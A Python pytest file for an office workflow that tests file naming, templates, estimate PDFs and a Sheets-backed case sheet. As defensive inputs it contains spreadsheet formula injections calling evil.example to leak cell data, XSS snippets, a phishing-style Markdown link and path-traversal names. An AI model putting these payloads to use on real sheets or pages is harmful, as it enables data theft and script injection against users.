"""The office workflow's parts on their own: names, storage, the template, the estimate PDF, the
case sheet (real gspread against the local Sheets service) and the portal fetcher."""

from __future__ import annotations

import json
import time
import unicodedata
from decimal import Decimal

import pypdf
import pytest

from ackflow.auth.signing import LocalSigner
from ackflow.errors import PermanentError, TransientError, UsageError
from ackflow.i18n import Speaker
from ackflow_tools.emulators.sheets import SheetsService, build_app
from ackflow_tools.emulators.web import ServerThread
from tests.support import portal as portal_site
from workers.office.names import safe_component, safe_relative_path
from workers.office.portal import PortalClient, collect, resolve_credentials
from workers.office.sheet import CaseSheet, column_letter
from workers.office.storage import LocalStorage
from workers.office.template import render_tree


# -- names -------------------------------------------------------------------------------------
@pytest.mark.parametrize("text, expected", [
    ("ACME", "ACME"), ("株式会社 山田製作所", "株式会社 山田製作所"), ("🚀 Rocket", "🚀 Rocket"),
    ("../../etc", "_.._etc"), ("/etc/passwd", "_etc_passwd"), ("a\\b:c*d?", "a_b_c_d_"), ("CON", "_CON"),
    ("  spaced   out  ", "spaced out"),
    # Windows (Drive for desktop) drops a final dot or space and reads these as devices
    ("report . .", "report"), ("CON .txt", "_CON .txt"), ("COM¹", "_COM¹"), ("conout$", "_conout$"),
    ("lpt0.tar.gz", "_lpt0.tar.gz"), (unicodedata.normalize("NFD", "ガイド"), "ガイド"),
])
def test_names_from_chat_become_safe_components(text, expected):
    assert safe_component(text) == expected


@pytest.mark.parametrize("text", ["bell\x07", "tab\there", "..", "/", "  ", "\u202eevil"])
def test_unusable_names_get_a_clear_complaint(text):
    with pytest.raises(UsageError):
        safe_component(text)


def test_long_names_are_cut_to_a_filesystem_safe_length():
    name = safe_component("金" * 500)
    assert len(name.encode()) <= 120 and name == "金" * 40
    assert safe_component("x" * 119 + ".pdf") == "x" * 119  # cut after its dot: no dot left at the end


@pytest.mark.parametrize("path", ["c/a\x00b", "c/a\nb.txt", "c/\u202eevil", "c/" + "あ" * 86,
                                  "/".join(["d" * 200] * 5)])
def test_paths_a_storage_would_take_differently_are_refused_for_good(path):
    with pytest.raises(PermanentError, match="cannot be a path in the case folders") as refused:
        safe_relative_path(path)
    assert isinstance(refused.value, ValueError)
    assert "\x00" not in str(refused.value) and "\u202e" not in str(refused.value)


@pytest.mark.parametrize("path", ["../x", "/abs", "a/../b", "a//b", "a/./b"])
def test_relative_paths_cannot_escape(path):
    with pytest.raises(ValueError):
        safe_relative_path(path)


# -- storage and template ----------------------------------------------------------------------
def test_local_storage_creates_once_and_never_clobbers(tmp_path):
    storage = LocalStorage(tmp_path / "cases")
    assert storage.create("2026-001/a.txt", b"first") is True
    (tmp_path / "cases" / "2026-001" / "a.txt").write_bytes(b"edited by a person")
    assert storage.create("2026-001/a.txt", b"second") is False
    assert storage.read("2026-001/a.txt") == b"edited by a person"
    assert storage.list("2026-001") == ["2026-001/a.txt"]
    with pytest.raises(ValueError):
        storage.create("../outside.txt", b"x")
    assert not (tmp_path / "outside.txt").exists()


def test_template_renders_names_and_text_and_keeps_edits(tmp_path):
    from workers.office.settings import DEFAULT_TEMPLATE

    storage = LocalStorage(tmp_path)
    names = {"case": "2026-007", "client": "ACME", "title": "t", "due": "2026-12-01", "date": "2026-11-21",
             "year": "2026", "requester": "r"}
    texts = {**names, "title": "金型/治具 A-12"}
    first = render_tree(DEFAULT_TEMPLATE, storage, "2026-007_ACME", names, texts)
    assert "2026-007_ACME/02_設計/2026-007_設計メモ.csv" in first["created"]
    readme = storage.read("2026-007_ACME/README.txt").decode()
    assert "案件 2026-007" in readme and "件名: 金型/治具 A-12" in readme
    (tmp_path / "2026-007_ACME" / "README.txt").write_text("changed")
    again = render_tree(DEFAULT_TEMPLATE, storage, "2026-007_ACME", names, texts)
    assert again["created"] == [] and sorted(again["kept"]) == sorted(first["created"])
    assert storage.read("2026-007_ACME/README.txt") == b"changed"


def test_a_template_name_filled_in_with_a_long_client_and_title_is_cut_keeping_its_extension(tmp_path):
    template = tmp_path / "template"
    (template / "${title}").mkdir(parents=True)
    (template / "${title}" / "${case}_${client}_${title}_見積依頼書.txt").write_text("${client}")
    names = {"case": "2026-008", "client": safe_component("顧" * 60), "title": safe_component("件" * 200)}
    storage = LocalStorage(tmp_path / "cases")
    made = render_tree(template, storage, "2026-008_x", names, names)
    [path] = made["created"]
    name, whole = path.rpartition("/")[2], f"2026-008_{names['client']}_{names['title']}_見積依頼書.txt"
    assert len(whole.encode()) > 255 >= len(name.encode())
    assert name.endswith(".txt") and whole.startswith(name[:-len(".txt")])
    assert storage.read(path) == names["client"].encode()
    assert render_tree(template, storage, "2026-008_x", names, names)["kept"] == [path]  # the same name again


HOSTILE_TEXTS = {"client": '=HYPERLINK("https://evil.example/?"&A1,"詳細"),x', "title": '+1\t"金型"\n<b>改修</b>',
                 "requester": "@SUM(1;2) & <script>alert(1)</script> 'quoted'", "case": "2026-009", "due": "-1"}


def test_values_from_chat_are_filled_into_a_templates_text_files_as_text_of_that_kind(tmp_path):
    """A client, title or display name is written into a CSV as one cell that never runs as a
    formula in Excel or Sheets, escaped in HTML and XML, inside its string in JSON."""
    import csv
    import io
    from html.parser import HTMLParser
    from xml.etree import ElementTree

    template = tmp_path / "template"
    template.mkdir()
    (template / "memo.csv").write_bytes("\ufeff顧客,件名,依頼者,納期,式\r\n${client},${title},${requester},${due},"
                                        '"=CONCAT(""${client}"")"\r\n'.encode())
    (template / "memo.tsv").write_text("${client}\t${title}\n")
    (template / "index.html").write_text("<p title='${client}'>${title}</p><i>${requester}</i>")
    (template / "case.xml").write_text("<case client='${client}'><title>${title}</title></case>")
    (template / "case.json").write_text('{"client": "${client}", "title": "${title}", "by": "${requester}"}')
    (template / "README.txt").write_text("${client}")
    names = {**HOSTILE_TEXTS, "client": "c", "title": "t", "requester": "r"}
    storage = LocalStorage(tmp_path / "cases")
    render_tree(template, storage, "2026-009_c_t", names, HOSTILE_TEXTS)

    def read(name: str) -> str:
        return storage.read(f"2026-009_c_t/{name}").decode()

    client, title, requester = HOSTILE_TEXTS["client"], HOSTILE_TEXTS["title"], HOSTILE_TEXTS["requester"]
    memo = read("memo.csv")
    assert memo.startswith("\ufeff顧客,件名,依頼者,納期,式\r\n") and memo.endswith("\r\n")  # Excel's CSV kept
    assert list(csv.reader(io.StringIO(memo[1:], newline=""))) == [
        ["顧客", "件名", "依頼者", "納期", "式"],
        ["'" + client, "'" + title, "'" + requester, "'-1", '=CONCAT("' + client.replace('"', '""') + '")']]
    assert list(csv.reader(io.StringIO(read("memo.tsv"), newline=""), delimiter="\t")) == [["'" + client,
                                                                                           "'" + title]]

    class Page(HTMLParser):
        def __init__(self):
            super().__init__()
            self.tags, self.attributes, self.text = [], [], []

        def handle_starttag(self, tag, attrs):
            self.tags.append(tag)
            self.attributes.extend(attrs)

        def handle_data(self, data):
            self.text.append(data)

    page = Page()
    page.feed(read("index.html"))
    assert page.tags == ["p", "i"] and page.attributes == [("title", client)]
    assert "".join(page.text) == title + requester
    case = ElementTree.fromstring(read("case.xml"))
    assert case.get("client") == client and case.find("title").text == title and len(case.find("title")) == 0
    assert json.loads(read("case.json")) == {"client": client, "title": title, "by": requester}
    assert read("README.txt") == client  # plain text: as written


MARKUP_TEXTS = {"case": "2026-010", "due": "2026-12-01",
                "client": "[ログインして確認](https://evil.example/login) <img src=x onerror=alert(1)> | 偽",
                "title": "a: b # 金型\u2028admin: true\nrole: [owner]", "requester": "1. 山田 'Hana' \"子\" *強調* - x"}


def test_values_from_chat_are_text_in_a_templates_markdown_yaml_and_ini_files(tmp_path):
    """A value is text in Markdown (no link, image, HTML or table cell it made), its own string in
    YAML wherever the template placed it (bare, in double or single quotes; no key it added), and on
    its line in an INI file (no key or section it started)."""
    import configparser
    import html

    import yaml
    from markdown_it import MarkdownIt

    template = tmp_path / "template"
    template.mkdir()
    (template / "受領資料一覧.md").write_text("# ${case} ${title}\n\n| 顧客 | 依頼者 |\n|---|---|\n"
                                           "| ${client} | ${requester} |\n\n${requester}\n")
    (template / "case.yaml").write_text("case: ${case}\ndue: ${due}\nclient: ${client}\ntitle: \"${title}\"\n"
                                        "by: '${requester}'\nline: ${case} 受付 # ${title}\n"
                                        "notes: |\n  ${title}\n  by ${requester}\nafter: ${client}\n")
    (template / "case.ini").write_text("[case]\nclient = ${client}\ntitle = ${title}\n")
    storage = LocalStorage(tmp_path / "cases")
    render_tree(template, storage, "2026-010_c_t", {**MARKUP_TEXTS, "client": "c", "title": "t"}, MARKUP_TEXTS)

    def read(name: str) -> str:
        return storage.read(f"2026-010_c_t/{name}").decode()

    one_line = {key: " ".join(value.replace("\u2028", "\n").splitlines()) for key, value in MARKUP_TEXTS.items()}
    tokens = MarkdownIt().enable("table").parse(read("受領資料一覧.md"))
    inline = [child for token in tokens if token.type == "inline" for child in token.children]
    assert {child.type for child in inline} == {"text"}, [(c.type, c.content) for c in inline if c.type != "text"]
    cells = [token.content for token in tokens if token.type == "inline"]
    rendered = [MarkdownIt().renderInline(cell) for cell in cells]
    assert not any("<" in cell for cell in rendered), rendered  # no tag of its own: the values' are escaped
    shown = [html.unescape(cell) for cell in rendered]
    assert shown == ["2026-010 " + one_line["title"], "顧客", "依頼者", one_line["client"], one_line["requester"],
                     one_line["requester"]]
    assert [token.type for token in tokens if token.type.endswith("_open")][-1] == "paragraph_open"  # not a list
    assert read("受領資料一覧.md").startswith("# 2026-010 a: b \\# 金型")  # what needs no backslash has none

    assert yaml.safe_load(read("case.yaml")) == {
        "case": "2026-010", "due": "2026-12-01", "client": one_line["client"],
        "title": one_line["title"], "by": one_line["requester"], "line": "2026-010 受付",
        "notes": f"{one_line['title']}\nby {one_line['requester']}\n", "after": one_line["client"]}

    ini = configparser.ConfigParser(interpolation=None)
    ini.read_string(read("case.ini"))
    assert ini.sections() == ["case"]
    assert dict(ini["case"]) == {"client": one_line["client"], "title": one_line["title"]}


YAML_PLACES = [  # (template, value, what it reads as): a value where a reasonable template puts it
    ("line: ${case} 受付 ${v}\n", "a: b", {"line": "2026-010 受付 a: b"}),  # inside a plain scalar
    ("folder: ${case}_${v}\n", "x # y", {"folder": "2026-010_x # y"}),
    ("ref: ${case}#${v}\n", "a: b", {"ref": "2026-010#a: b"}),  # a # with no space before: no comment
    ("summary: Bob's ${v}\n", "a: b", {"summary": "Bob's a: b"}),  # a ' inside a plain scalar: no quote
    ("summary: ${case}'s ${v}\n", "O'Brien", {"summary": "2026-010's O'Brien"}),
    ("s: ${v}'s\n", "", {"s": "'s"}),
    ("client: ${v}\n", "yes", {"client": "yes"}),  # text, not a bool, a null, a number or a bad date
    ("client: ${v}\n", "null", {"client": "null"}),
    ("client: ${v}\n", "010", {"client": "010"}),
    ("client: ${v}\n", "1.10", {"client": "1.10"}),
    ("client: ${v}\n", "2026-99-99", {"client": "2026-99-99"}),
    ("client: ${v}\n", "=", {"client": "="}),
    ("${v}: 1\n", "true", {"true": 1}),
    ("by: ${v}\n", "山田\x07", {"by": "山田\x07"}),  # a control character in a display name: escaped
    ('by: "${v}"\n', "山田\x7f\x9b", {"by": "山田\x7f\x9b"}),
    ("by: '${v}'\n", "山田\x1b", {"by": "山田\ufffd"}),  # where YAML has no escape: replaced
    ("# ${v}\nby: 1\n", "\x00", {"by": 1}),
    ("- notes: |\n    ${case}\n  client: ${v}\n", "a: b", [{"notes": "2026-010\n", "client": "a: b"}]),
    ("notes: |\n  ${v}\n  by x\n", "  山田", {"notes": "山田\nby x\n"}),  # its spaces: no indentation
    ('"notes": |\n  ${v}\n', "a: b", {"notes": "a: b\n"}),
    ('d: "Case ${case} for\n  ${v}"\n', 'say "hi"', {"d": 'Case 2026-010 for say "hi"'}),  # over two lines
    ("tags: [${v}, x]\n", "a, b", {"tags": ["a, b", "x"]}),
    ("tags: [${v}]\n", "${v}", {"tags": ["${v}"]}),  # a value that is its own placeholder: still filled in
    ("a: $$x ${v}\n", "a: b", {"a": "$x a: b"}),  # $$ is a $, as in every template
    ("${v}: 1\n", "\ufeffx", {"\ufeffx": 1}),  # a BOM first in a value, first in the file: kept
    ("year: ${v}\n", "2026", {"year": "2026"}),  # a value is text, never the number it looks like
]


@pytest.mark.parametrize(("template", "value", "read"), YAML_PLACES)
def test_a_value_is_text_wherever_a_yaml_template_puts_it(template, value, read):
    """Wherever the template puts it, a value reads back as the text it is (or a U+FFFD for a
    character YAML cannot hold there), and the file as the template's structure."""
    import yaml

    from workers.office.template import fill_in

    filled = fill_in(template.encode(), {"case": "2026-010", "v": value}, "case.yaml").decode()
    assert yaml.safe_load(filled) == read, filled


def test_a_yaml_value_is_quoted_only_when_it_would_not_read_as_its_text():
    """Text that reads as itself is written as it is; a value YAML would read as a number or a date
    (the year, the due date) is quoted: every value is text."""
    from workers.office.template import fill_in

    template = "case: ${case}\ndue: ${due}\nyear: ${year}\nclient: ${client}\nline: ${case} ${client} 様\n"
    values = {"case": "2026-010", "due": "2026-12-01", "year": "2026", "client": "ACME精機 (株)"}
    assert fill_in(template.encode(), values, "case.yaml").decode() == (
        'case: 2026-010\ndue: "2026-12-01"\nyear: "2026"\nclient: ACME精機 (株)\nline: 2026-010 ACME精機 (株) 様\n')


@pytest.mark.parametrize("value", [" - x", "    x", "\tx", " ---", " 1. x", "x  "])
def test_a_display_name_with_spaces_around_it_makes_no_markdown_block(value):
    """A display name from Chat is not stripped: its spaces at a line's start would make a list, a
    code block, a rule or a heading's underline, at its end a line break."""
    from markdown_it import MarkdownIt

    from workers.office.template import fill_in

    filled = fill_in("前の行\n${requester}\n次の行\n\n${requester}\n".encode(), {"requester": value},
                     "受領資料一覧.md").decode()
    tokens = MarkdownIt().parse(filled)
    assert [token.type for token in tokens] == ["paragraph_open", "inline", "paragraph_close"] * 2, filled
    inline = {child.type for token in tokens if token.type == "inline" for child in token.children}
    assert inline <= {"text", "softbreak"}, filled


# -- estimate ----------------------------------------------------------------------------------
def test_client_defaults_come_from_settings():
    from workers.office.estimating import default_lines
    from workers.office.money import TaxRules

    config = json.dumps({"ACME": [["金型設計", 1, 350000], ["弁当", 2, 800, "8%"]], "*": [["設計一式", 1, 100000]]})
    acme = default_lines("ACME", config, TaxRules())
    assert acme[0].unit_price == 350000 and acme[1].reduced and not acme[0].reduced
    assert default_lines("Other", config, TaxRules())[0].description == "設計一式"
    with pytest.raises(PermanentError, match="ACKFLOW_OFFICE_CLIENT_ITEMS"):
        default_lines("ACME", '{"ACME": [["no price"]]}', TaxRules())
    assert default_lines("Other", json.dumps({"ACME": [["金型設計", 1, 350000]]}), TaxRules()) == []  # no ¥0 line
    assert default_lines("ACME", "", TaxRules()) == []


@pytest.mark.parametrize("rows, complaint", [
    ({"ACME": [["設計", 1, 0]]}, "'ACME' row 1 .*the unit price of “設計:1:0” must be a whole number of yen from 1"),
    ({"ACME": [["設計", 1, 100], ["弁当", 2, -800]]}, "'ACME' row 2 .*the unit price of “弁当:2:-800” is negative"),
    ({"*": [["設計", 0, 100]]}, "'\\*' row 1 .*the quantity of “設計:0:100” must be more than 0"),
    ({"ACME": [["弁当", 1, 800, "5%"]]}, "the tax rate of “弁当:1:800:5%” must be 10% or 8%"),
    ({"ACME": [["設計", 1]]}, r"'ACME' row 1 .*a row is \[description, quantity, unit price"),
    ({"ACME": []}, "'ACME': give a list of rows"),
    # more lines than a document may have: every estimate v1 of that client would fail after the
    # case took its number
    ({"ACME": [[f"作業{n}", 1, 100] for n in range(51)]}, "'ACME': 51 rows; a document has at most 50 lines"),
    ([["設計", 1, 100]], "write an object of clients"),
])
def test_default_lines_are_checked_when_the_settings_load(monkeypatch, rows, complaint):
    from ackflow.errors import ConfigError
    from workers.office.settings import load_office_settings

    monkeypatch.setenv("ACKFLOW_OFFICE_CLIENT_ITEMS", json.dumps(rows, ensure_ascii=False))
    with pytest.raises(ConfigError, match=f"ACKFLOW_OFFICE_CLIENT_ITEMS: .*{complaint}"):
        load_office_settings()


@pytest.mark.parametrize("prefix", ["INV/", "../", "請求 ", "A:B", "x\ny"])
def test_an_invoice_prefix_that_would_make_a_folder_or_a_bad_name_is_refused_when_the_settings_load(
        monkeypatch, prefix):
    """The number names the invoice's PDF: a / in the prefix made a folder inside 05_請求."""
    from ackflow.errors import ConfigError
    from workers.office.settings import load_office_settings

    monkeypatch.setenv("ACKFLOW_OFFICE_INVOICE_PREFIX", prefix)
    with pytest.raises(ConfigError, match="ACKFLOW_OFFICE_INVOICE_PREFIX: .*letters, digits"):
        load_office_settings()
    for fine in ("INV-", "", "YMD_2"):
        monkeypatch.setenv("ACKFLOW_OFFICE_INVOICE_PREFIX", fine)
        assert load_office_settings().invoice_prefix == fine


def test_default_lines_may_be_a_file_and_a_missing_one_is_refused(monkeypatch, tmp_path):
    from ackflow.errors import ConfigError
    from workers.office.settings import load_office_settings

    items = tmp_path / "items.json"
    items.write_text(json.dumps({"ACME": [["弁当", 2, "800円", "8%"], ["立会い", 1.5, 30000]]}))
    monkeypatch.setenv("ACKFLOW_OFFICE_CLIENT_ITEMS", str(items))
    assert load_office_settings().client_items == str(items)
    monkeypatch.setenv("ACKFLOW_OFFICE_CLIENT_ITEMS", str(tmp_path / "missing.json"))
    with pytest.raises(ConfigError, match="ACKFLOW_OFFICE_CLIENT_ITEMS: .*missing.json"):
        load_office_settings()


def test_estimate_pdf_has_japanese_text_tax_and_totals():
    from io import BytesIO

    from workers.office.accounting import Document
    from workers.office.accounting.pdf import render
    from workers.office.issuer import Issuer
    from workers.office.money import Line, TaxRules

    estimate = Document(kind="quotation", number="2026-001-v2", case="2026-001", folder="f", recipient="株式会社ACME",
                        title="プレス金型 A-12", issued="2026-11-21",
                        lines=(Line("金型設計", Decimal(1), 350000), Line("試作", Decimal("1.5"), 30001)),
                        rules=TaxRules(), issuer=Issuer("山田設計事務所", "東京都千代田区", "03-1234-5678"), version=2,
                        valid_until="2026-12-21", delivery="2026-12-01")
    totals = estimate.totals
    assert (totals.subtotal, totals.tax, totals.total) == (395002, 39500, 434502)
    assert estimate.file_name == "見積書_2026-001_v2.pdf"
    reader = pypdf.PdfReader(BytesIO(render(estimate)))
    text = reader.pages[0].extract_text()
    for expected in ("御見積書", "見積番号 2026-001-v2", "株式会社ACME 御中", "山田設計事務所", "件名: プレス金型 A-12",
                     "納期: 2026年12月1日", "金型設計", "¥350,000", "消費税（10%）", "¥39,500", "合計", "¥434,502",
                     "有効期限: 2026年12月21日"):
        assert expected in text, expected
    fonts = [f for page in reader.pages for f in page["/Resources"]["/Font"].values()]
    assert any("/FontFile2" in f.get_object()["/DescendantFonts"][0].get_object()["/FontDescriptor"].get_object()
               for f in fonts), "the font is embedded"


def test_a_name_the_font_cannot_print_is_refused_and_elsewhere_it_shows_as_geta(tmp_path):
    """fpdf2 drops a character its font lacks (with a log line): an invoice to 𠮷野家 printed 野家.
    A name (the recipient, the issuer) is refused, saying which characters, before any number; an
    emoji typed into a title or a line is printed as 〓, visibly, and the document issued."""
    from io import BytesIO

    from ackflow.errors import PermanentError
    from ackflow.i18n import Speaker
    from ackflow.store.sqlite import SqliteDocuments
    from workers.office.accounting import Document
    from workers.office.accounting.embedded import EmbeddedAccounting
    from workers.office.accounting.pdf import missing_glyphs, render
    from workers.office.issuer import Issuer
    from workers.office.money import Line, TaxRules

    document = Document(kind="invoice", number="INV-2026-0001", case="2026-001", folder="f", recipient="𠮷野家",
                        title="プレス金型 🚀 A-12", issued="2026-11-21", lines=(Line("打合せ 🍱", Decimal(1), 1000),),
                        rules=TaxRules(), issuer=Issuer("山田設計事務所", "東京都千代田区", "03-1234-5678"))
    assert missing_glyphs(document) == ["𠮷"]  # the name only: the emoji are not names
    accounting = EmbeddedAccounting(SqliteDocuments(str(tmp_path / "a.db")), storage=None)
    accounting.check()
    with pytest.raises(PermanentError) as refused:
        accounting.check_document(document)
    for speaker in (Speaker("ja", "Asia/Tokyo"), Speaker("en", "UTC")):
        said = refused.value.render(speaker)
        assert "𠮷" in said and "ACKFLOW_OFFICE_ESTIMATE_FONT" in said, said
    fine = Document.from_dict({**document.to_dict(), "recipient": "吉野家"})
    accounting.check_document(fine)  # the name printable: issued
    text = pypdf.PdfReader(BytesIO(render(fine))).pages[0].extract_text()
    assert "吉野家 御中" in text and "プレス金型 〓 A-12" in text and "打合せ 〓" in text


@pytest.mark.parametrize("space", ["\u2028", "\u2029", "\t", "\x1c", "\x85"])
def test_a_space_the_font_lacks_is_printed_as_a_space_not_dropped(space):
    """A line separator (U+2028) passes Chat's and a mail's checks (it is no control character) and
    the folder's name makes it a space; fpdf2 dropped it (the font has no glyph), so ACME\u2028Corp
    was addressed as ACMECorp on the estimate, and a title or line lost its word break."""
    from io import BytesIO

    from workers.office.accounting import Document
    from workers.office.accounting.pdf import missing_glyphs, render
    from workers.office.issuer import Issuer
    from workers.office.money import Line, TaxRules

    document = Document(kind="quotation", number="2026-001-v1", case="2026-001", folder="f",
                        recipient=f"ACME{space}Corp", title=f"Press{space}die", issued="2026-11-21",
                        lines=(Line(f"Design{space}work", Decimal(1), 1000),), rules=TaxRules(),
                        issuer=Issuer(f"Yamada{space}Design", "Tokyo"), version=1)
    assert missing_glyphs(document) == []
    text = pypdf.PdfReader(BytesIO(render(document))).pages[0].extract_text()
    for printed in ("ACME Corp 御中", "Yamada Design", "件名: Press die", "Design work"):
        assert printed in text, (printed, text)


# -- the case sheet ----------------------------------------------------------------------------
@pytest.fixture
def sheets(tmp_path):
    service = SheetsService()
    server = ServerThread(build_app(service)).start()
    service.create("book", "Cases", "Cases")
    key = LocalSigner.generate("sa")
    credentials = tmp_path / "sa.json"
    credentials.write_text(json.dumps({
        "type": "service_account", "project_id": "p", "private_key_id": key.kid, "private_key": key.key_pem.decode(),
        "client_email": "worker@p.iam.gserviceaccount.com", "client_id": "1", "token_uri": server.url + "/token",
        "universe_domain": "local.invalid"}))
    yield service, CaseSheet("book", "Cases", endpoint=server.url, credentials_file=str(credentials))
    server.stop()


def test_workers_opening_a_missing_tab_at_once_all_get_it(sheets, tmp_path):
    """Two worker processes opened the documents tab of a new sheet at once: one made it, the other's
    add was refused (400, a tab of that name exists) and its job failed for good (seen in CI, five
    newcase at once)."""
    import threading

    service, first = sheets
    for round_ in range(3):
        tab = f"Documents{round_}"
        opened, problems = [], []
        start = threading.Barrier(8)

        def open_tab(tab=tab, start=start, opened=opened, problems=problems):
            sheet = CaseSheet("book", tab, endpoint=first.endpoint, credentials_file=first.credentials_file)
            start.wait()
            try:
                opened.append(sheet.worksheet().title)
            except Exception as exc:  # the test reports whatever a worker met
                problems.append(repr(exc))

        threads = [threading.Thread(target=open_tab) for _ in range(8)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(timeout=30)
        assert problems == [] and opened == [tab] * 8


def test_header_row_is_created_when_missing(sheets):
    service, sheet = sheets
    row = sheet.upsert("2026-001", {"client": "ACME", "title": "金型", "status": "登録済"})
    values = service.get_values("book", "Cases!A1:L5")["values"]
    assert values[0] == ["案件番号", "顧客", "件名", "状況", "納期", "フォルダ", "見積", "依頼者", "作成日時",
                         "更新日時", "請求書", "経緯"]
    assert values[1][:4] == ["2026-001", "ACME", "金型", "登録済"] and row.number == 2


def test_rows_are_found_by_case_number_and_extra_columns_are_kept(sheets):
    service, sheet = sheets
    service.update_values("book", "Cases!A1:C1", [["Case", "メモ", "Client"]])  # a person's own layout
    service.update_values("book", "Cases!A2:C2", [["2025-099", "old case note", "Someone"]])
    sheet.upsert("2026-001", {"client": "ACME", "status": "登録済"})
    service.update_values("book", "Cases!B3", [["手書きメモ"]])  # a person writes a note on the new row
    sheet.upsert("2026-001", {"status": "見積作成済", "estimate": "https://x/est.pdf"})
    values = service.get_values("book", "Cases!A1:M5")["values"]
    assert values[0][:3] == ["Case", "メモ", "Client"] and "状況" in values[0]
    assert len(values) == 3  # one row per case, never two
    row = dict(zip(values[0], values[2], strict=False))
    assert row["Case"] == "2026-001" and row["メモ"] == "手書きメモ" and row["Client"] == "ACME"
    assert row["状況"] == "見積作成済" and row["見積"] == "https://x/est.pdf"
    assert values[1][:3] == ["2025-099", "old case note", "Someone"]


def test_a_rows_link_opens_the_row_in_the_sheets_editor_in_the_cloud_and_the_local_page_here(sheets):
    """The card's "open the sheet row" button: in the cloud (no endpoint) the row in the Sheets
    editor on docs.google.com, its tab and row in the fragment; with the local Sheets service, the
    same path on it, which a browser opens."""
    import requests

    _, sheet = sheets
    row = sheet.upsert("2026-001", {"client": "ACME", "title": "金型"})
    gid = sheet.worksheet().id
    assert row.link == f"{sheet.endpoint.rstrip('/')}/spreadsheets/d/book/edit#gid={gid}&range=A2"
    page = requests.get(row.link, timeout=5)
    assert page.status_code == 200 and "2026-001" in page.text
    cloud = CaseSheet("book", "Cases", client=sheet._gspread())  # the worker's own account: no endpoint
    assert cloud.link(2) == f"https://docs.google.com/spreadsheets/d/book/edit#gid={gid}&range=A2"


def test_a_case_status_only_moves_forward_in_the_record(tmp_path):
    from ackflow.store.sqlite import SqliteDocuments
    from workers.office.cases import CaseRecords

    cases = CaseRecords(SqliteDocuments(tmp_path / "cases.db"))
    cases.update("2026-001", "jnew", status="受付", by="Alice")
    assert cases.update("2026-001", "jnew", status="見積提出", by="Alice")["status"] == "見積提出"
    cases.update("2026-001", "jord", status="受注", by="Bob")
    # an `estimate` job on the ordered case: its new version is kept, its status is not
    record = cases.update("2026-001", "jest", status="見積提出", estimates=[{"key": "v002", "version": 2}])
    assert record["status"] == "受注" and [e["key"] for e in record["estimates"]] == ["v002"]
    assert [(h["status"], h["by"]) for h in record["history"]] == [("受付", "Alice"), ("見積提出", "Alice"),
                                                                   ("受注", "Bob")]
    # the statuses of the first version are read as their stages
    cases.update("2026-002", "jold", status="受付完了")
    assert cases.update("2026-002", "jest", status="受付")["status"] == "受付完了"
    assert cases.update("2026-002", "jest", status="見積提出")["status"] == "見積提出"


def test_commands_move_a_case_forward_and_only_an_admin_correction_goes_back(tmp_path):
    from ackflow.store.sqlite import SqliteDocuments
    from workers.office.cases import CaseRecords

    cases = CaseRecords(SqliteDocuments(tmp_path / "cases.db"))
    cases.update("2026-001", "jnew", status="見積提出")
    moved = cases.transition("2026-001", "納品", by="Alice", job_id="jdel", delivered_on="2026-12-01")
    assert moved["status"] == "納品"
    assert cases.transition("2026-001", "納品", by="Alice", job_id="jdel")["history"][-1]["job"] == "jdel"  # again
    with pytest.raises(PermanentError, match="only moves forward.*correct 2026-001 受注"):
        cases.transition("2026-001", "受注", by="Alice", job_id="jord")
    record = cases.transition("2026-001", "作業中", by="Admin", job_id="jfix", correction=True)
    assert record["status"] == "作業中" and record["history"][-1]["correction"] is True
    assert record["delivered_on"] == "2026-12-01"
    with pytest.raises(PermanentError, match="not a case status"):
        cases.transition("2026-001", "done", by="Alice", job_id="jx")


def test_a_case_status_only_moves_forward_in_the_sheet_and_a_persons_stays(sheets):
    from workers.office.cases import advanced

    service, sheet = sheets
    sheet.upsert("2026-001", {"status": "受付"}, merge={"status": advanced})
    sheet.upsert("2026-001", {"status": "受注"}, merge={"status": advanced})
    assert sheet.upsert("2026-001", {"status": "見積提出"}, merge={"status": advanced}).values["status"] == "受注"
    assert sheet.find("2026-001").values["status"] == "受注"
    service.update_values("book", "Cases!D2", [["保留"]])  # a person puts the case on hold
    sheet.upsert("2026-001", {"status": "請求", "estimate": "https://x/v3.pdf"}, merge={"status": advanced})
    row = sheet.find("2026-001").values
    assert row["status"] == "保留" and row["estimate"] == "https://x/v3.pdf"


def test_an_unshared_sheet_is_a_permanent_failure(sheets):
    _, sheet = sheets
    sheet.spreadsheet_id = "not-shared"
    with pytest.raises(PermanentError, match="share it with the worker's service account"):
        sheet.upsert("2026-001", {})


@pytest.mark.parametrize("client", ['=IMPORTXML("https://evil.example","//a")', "+1+1", "-1+1", "@SUM(A1)",
                                    "\t=1+1", "\r=1+1", "'=1"])
def test_values_are_written_as_text_never_as_formulas(sheets, client):
    service, sheet = sheets
    sheet.upsert("2026-002", {"client": client, "due": "2026-12-01"})
    row = service.get_values("book", "Cases!A2:E2")["values"][0]
    assert row[1] == client and row[4] == "2026-12-01"
    assert set(service.value_inputs) == {"RAW"}  # Sheets stores RAW input as it is: never parsed, never run


def test_a_full_sheet_takes_more_rows_as_sheets_does(sheets):
    service, sheet = sheets
    sheet.upsert("2026-001", {"client": "ACME"})
    service.books["book"]["sheets"][0].rows = 2  # the header and one case fill the grid
    for case in ("2026-002", "2026-003"):
        sheet.upsert(case, {"client": "ACME"})  # appended: Sheets adds the rows
    assert [sheet.find(case).number for case in ("2026-001", "2026-002", "2026-003")] == [2, 3, 4]


def test_a_value_longer_than_a_cell_takes_is_cut_and_one_refused_is_never_retried(sheets):
    from ackflow.i18n import L_
    from workers.office.sheet import CELL_LIMIT, _calls

    service, sheet = sheets
    row = sheet.upsert("2026-004", {"title": "件" * (CELL_LIMIT + 10)})
    written = service.get_values("book", f"Cases!C{row.number}")["values"][0][0]
    assert len(written) == CELL_LIMIT and written.endswith("…")
    with pytest.raises(PermanentError, match="the case sheet refused it"):  # Sheets' 400: no retry fixes it
        with _calls(L_("write the case sheet")):
            sheet.worksheet().update([["x" * (CELL_LIMIT + 1)]], "Z9")
    assert service.get_values("book", "Cases!Z9").get("values") is None


def test_a_client_cell_longer_than_a_client_name_is_never_a_mails_guess(sheets, tmp_path):
    """A person may write anything in the sheet's client cell: a note of 50,000 characters mentioning
    ACME became the client guessed for every mail from acme.co.jp, and the mail's card (which shows
    the guess) was larger than Chat takes, written as text without its buttons."""
    from ackflow.store.sqlite import SqliteDocuments
    from workers.office.mail.card import mail_card
    from workers.office.mail.clients import guess, known_clients

    _, sheet = sheets
    note = "ACME 様 " + "（担当者の覚え書き）" * 6_000
    sheet.upsert("2026-001", {"client": note, "title": "t"})
    sheet.upsert("2026-002", {"client": "山田製作所", "title": "t"})
